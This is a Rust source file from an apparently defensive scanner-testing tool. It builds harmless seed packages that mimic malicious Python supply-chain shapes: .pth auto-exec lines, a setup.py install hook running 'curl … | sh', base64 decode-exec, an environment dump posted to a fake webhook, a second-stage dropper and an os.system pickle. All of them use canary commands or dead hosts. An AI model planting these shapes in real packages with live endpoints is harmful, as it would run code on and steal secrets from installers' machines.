//! The seed families: one harmless reproduction of each malicious shape assay knows.
//!
//! Every payload is a no-op in effect: commands only `echo assay-canary` or fetch from
//! `example.invalid` (which never resolves), webhooks are `FAKE`. Nothing is ever run:
//! the seeds exist to be transformed and scanned.

use super::pack::File;
use base64::Engine as _;

/// The harmless stand-in for a second-stage payload.
pub const CANARY: &str = "import os; os.system('echo assay-canary')";

/// How a seed is shipped.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Layout {
    /// A pure-Python wheel (`<name>-0.1.0-py3-none-any.whl`).
    Wheel,
    /// An sdist (`<name>-0.1.0.tar.gz`).
    Sdist,
    /// One bare file (a model), named by [`Seed::carrier`].
    File,
}

/// What kind of file carries the payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Carrier {
    /// A Python module (`pkg/__init__.py`, `setup.py`): runs at import or install time.
    Module,
    /// One `import …; …` line of a `.pth` file: runs at every interpreter start.
    Pth,
    /// A pickle: runs when it is loaded.
    Pickle,
}

/// The call the indirection transforms rewrite: `callee(…)`, where `callee` is `attr` of
/// `module` (`os.system`; `exec` is `exec` of `builtins`).
#[derive(Debug, Clone, Copy)]
pub struct Sink {
    /// The call's spelling in the seed (`os.system`, `exec`).
    pub callee: &'static str,
    /// The module holding it (`os`, `builtins`).
    pub module: &'static str,
    /// Its attribute name (`system`, `exec`).
    pub attr: &'static str,
}

/// One harmless malicious package: its files and where its payload sits.
#[derive(Debug, Clone)]
pub struct Seed {
    /// Family name (a column of the matrix).
    pub family: &'static str,
    /// Distribution and import name.
    pub name: &'static str,
    /// How it is shipped.
    pub layout: Layout,
    /// Its files, relative to the package root (the sdist root, the wheel root).
    pub files: Vec<File>,
    /// Path (in `files`) of the file that holds the payload.
    pub carrier: String,
    /// What kind of file that is.
    pub kind: Carrier,
    /// The dangerous call in the carrier, when it is code.
    pub sink: Option<Sink>,
}

impl Seed {
    /// The carrier's bytes.
    pub fn carrier_bytes(&self) -> &[u8] {
        self.files
            .iter()
            .find(|(p, _)| *p == self.carrier)
            .map(|(_, d)| d.as_slice())
            .unwrap_or_default()
    }

    /// A copy whose carrier holds `data` instead.
    pub fn with_carrier(&self, data: Vec<u8>) -> Seed {
        let mut s = self.clone();
        for f in &mut s.files {
            if f.0 == s.carrier {
                f.1 = data.clone();
            }
        }
        s
    }

    /// The directory (with a trailing `/`, or empty) the carrier sits in.
    pub fn carrier_dir(&self) -> String {
        match self.carrier.rfind('/') {
            Some(i) => self.carrier[..=i].to_owned(),
            None => String::new(),
        }
    }
}

fn b64(s: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn f(path: &str, data: impl Into<Vec<u8>>) -> File {
    (path.to_owned(), data.into())
}

/// Every seed, one per family, in matrix column order.
pub fn all() -> Vec<Seed> {
    let os_system = Sink {
        callee: "os.system",
        module: "os",
        attr: "system",
    };
    vec![
        // LiteLLM 1.82.8's `litellm_init.pth` (March 2026), payload replaced by CANARY:
        // spawn `python -c` that base64-decodes and execs code at every interpreter start.
        Seed {
            family: "pth",
            name: "fastjsonx",
            layout: Layout::Wheel,
            files: vec![
                f("fastjsonx/__init__.py", "__version__ = \"0.1.0\"\n"),
                f(
                    "fastjsonx_init.pth",
                    format!(
                        "import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \
                         \"import base64; exec(base64.b64decode('{}'))\"])\n",
                        b64(CANARY)
                    ),
                ),
            ],
            carrier: "fastjsonx_init.pth".into(),
            kind: Carrier::Pth,
            sink: Some(Sink {
                callee: "subprocess.Popen",
                module: "subprocess",
                attr: "Popen",
            }),
        },
        // The `.pth` shape of issue 21: a shell download at every interpreter start.
        Seed {
            family: "pth-shell",
            name: "colorlogz",
            layout: Layout::Wheel,
            files: vec![
                f("colorlogz/__init__.py", "__version__ = \"0.1.0\"\n"),
                f(
                    "colorlogz_init.pth",
                    "import os; os.system('curl -s https://example.invalid/x | sh')\n",
                ),
            ],
            carrier: "colorlogz_init.pth".into(),
            kind: Carrier::Pth,
            sink: Some(os_system),
        },
        // `setup.py` overriding the `install` command to run a shell download.
        Seed {
            family: "setup-hook",
            name: "canaryhook",
            layout: Layout::Sdist,
            files: vec![
                f(
                    "setup.py",
                    "import os\n\
                     from setuptools import setup\n\
                     from setuptools.command.install import install\n\
                     \n\
                     \n\
                     class PostInstall(install):\n    \
                         def run(self):\n        \
                             install.run(self)\n        \
                             os.system('curl https://example.invalid/x | sh')\n\
                     \n\
                     \n\
                     setup(name='canaryhook', version='0.1.0', packages=['canaryhook'], \
                     cmdclass={'install': PostInstall})\n",
                ),
                f("canaryhook/__init__.py", "VALUE = 1\n"),
            ],
            carrier: "setup.py".into(),
            kind: Carrier::Module,
            sink: Some(os_system),
        },
        // Import-time decode-then-exec.
        Seed {
            family: "decode-exec",
            name: "b64helper",
            layout: Layout::Wheel,
            files: vec![f(
                "b64helper/__init__.py",
                format!(
                    "import base64\n\nexec(base64.b64decode('{}'))\n",
                    b64(CANARY)
                ),
            )],
            carrier: "b64helper/__init__.py".into(),
            kind: Carrier::Module,
            sink: Some(Sink {
                callee: "exec",
                module: "builtins",
                attr: "exec",
            }),
        },
        // Import-time exfiltration of the environment to a (fake) Discord webhook.
        Seed {
            family: "exfil",
            name: "envsync",
            layout: Layout::Wheel,
            files: vec![f(
                "envsync/__init__.py",
                "import json\n\
                 import os\n\
                 import urllib.request\n\
                 \n\
                 _payload = json.dumps(dict(os.environ)).encode()\n\
                 urllib.request.urlopen('https://discord.com/api/webhooks/FAKE/FAKE', data=_payload)\n",
            )],
            carrier: "envsync/__init__.py".into(),
            kind: Carrier::Module,
            sink: Some(Sink {
                callee: "urllib.request.urlopen",
                module: "urllib.request",
                attr: "urlopen",
            }),
        },
        // Import-time dropper: download a second stage, make it executable, run it.
        Seed {
            family: "dropper",
            name: "stage2dl",
            layout: Layout::Wheel,
            files: vec![f(
                "stage2dl/__init__.py",
                "import os\n\
                 import urllib.request\n\
                 \n\
                 _path = os.path.join(os.path.expanduser('~'), '.cache', '.s2')\n\
                 urllib.request.urlretrieve('https://example.invalid/stage2', _path)\n\
                 os.chmod(_path, 0o755)\n\
                 os.system(_path)\n",
            )],
            carrier: "stage2dl/__init__.py".into(),
            kind: Carrier::Module,
            sink: Some(os_system),
        },
        // A protocol-0 pickle that calls `os.system` when loaded.
        Seed {
            family: "pickle",
            name: "model",
            layout: Layout::File,
            files: vec![f(
                "model.pkl",
                b"cos\nsystem\n(S'echo assay-canary'\ntR.".to_vec(),
            )],
            carrier: "model.pkl".into(),
            kind: Carrier::Pickle,
            sink: None,
        },
    ]
}
